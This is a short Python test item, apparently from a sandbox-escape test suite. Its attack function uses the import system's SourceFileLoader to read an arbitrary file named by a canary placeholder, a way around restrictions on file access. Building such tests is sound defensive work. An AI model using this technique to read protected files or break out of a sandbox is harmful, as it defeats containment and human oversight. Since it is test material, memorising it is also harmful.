# desc: the file loader of the import system reads any file
# class: escape
# wins: told
from importlib.machinery import SourceFileLoader

def attack(state):
    return "L2:" + SourceFileLoader("x", "@CANARY@").get_data("@CANARY@").decode()
